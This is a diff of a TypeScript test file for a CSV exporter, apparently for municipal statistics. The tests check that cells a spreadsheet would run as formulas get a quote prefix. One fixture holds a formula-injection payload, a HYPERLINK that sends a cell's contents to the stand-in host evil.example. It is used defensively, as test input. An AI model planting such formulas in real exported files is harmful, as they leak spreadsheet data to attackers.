@@ -16,11 +16,7 @@ it('prefixes a quote to text that a spreadsheet would run as a formula, and to n
 });
 
 it('writes text cells neutralised and quoted as needed, numbers (also negative) unchanged, CRLF after every record', () => {
-  const csv = spreadsheetCsv([
-    ['=1+1', '-5', '@SUM(A1)', '\tx', 'a;b', 'say "hi"', 'line\nbreak', 'cr\rhere', new CsvNumber('-1234,56'), -7, null, new CsvNumber('')],
-    [],
-    ['end'],
-  ], { bom: true });
+  const csv = spreadsheetCsv([['=1+1', '-5', '@SUM(A1)', '\tx', 'a;b', 'say "hi"', 'line\nbreak', 'cr\rhere', new CsvNumber('-1234,56'), -7, null, new CsvNumber('')], [], ['end']], { bom: true });
   expect(csv.startsWith('\ufeff')).toBe(true);
   expect(csv.endsWith('end\r\n')).toBe(true);
   // Every record ends in CRLF; a CR or LF inside a cell is quoted, never a line of its own.
@@ -31,12 +27,29 @@ it('writes text cells neutralised and quoted as needed, numbers (also negative) 
 });
 
 it('neutralises metric and municipality names in the statistics CSV and keeps negative changes numbers', () => {
-  const row = (over: Partial<RowData>): RowData => ({
-    metric: { code: 'reports_received', name: '=HYPERLINK("https://evil.example/?"&A1,"Klikk")' }, municipalityId: 'm1', period: '2022', value: 12, suppressed: false, reason: null,
-    partialSum: null, suppressedContributors: null, missingContributors: null, per1000: 1.5, changeFromPreviousYear: -3, changePercent: -20, sharePercent: null, ...over,
-  } as RowData);
-  const csv = statisticsCsv([row({}), row({ municipalityId: 'm2', value: null, reason: CellReason.MISSING, changeFromPreviousYear: null, changePercent: null })], [row({ municipalityId: null })],
-    (id) => ({ m1: { number: '3429', name: '+Folldal' }, m2: { number: '3427', name: 'Tynset' } })[id], true);
+  const row = (over: Partial<RowData>): RowData =>
+    ({
+      metric: { code: 'reports_received', name: '=HYPERLINK("https://evil.example/?"&A1,"Klikk")' },
+      municipalityId: 'm1',
+      period: '2022',
+      value: 12,
+      suppressed: false,
+      reason: null,
+      partialSum: null,
+      suppressedContributors: null,
+      missingContributors: null,
+      per1000: 1.5,
+      changeFromPreviousYear: -3,
+      changePercent: -20,
+      sharePercent: null,
+      ...over,
+    }) as RowData;
+  const csv = statisticsCsv(
+    [row({}), row({ municipalityId: 'm2', value: null, reason: CellReason.MISSING, changeFromPreviousYear: null, changePercent: null })],
+    [row({ municipalityId: null })],
+    (id) => ({ m1: { number: '3429', name: '+Folldal' }, m2: { number: '3427', name: 'Tynset' } })[id],
+    true,
+  );
   const [header, first, second, total] = cells(csv);
   expect(header.slice(0, 6)).toEqual(['metric', 'metric_name', 'kommunenummer', 'municipality', 'period', 'value']);
   expect(first).toEqual(['reports_received', `'=HYPERLINK("https://evil.example/?"&A1,"Klikk")`, '3429', "'+Folldal", '2022', '12', '', '', '', '1.5', '-3', '-20', '']);
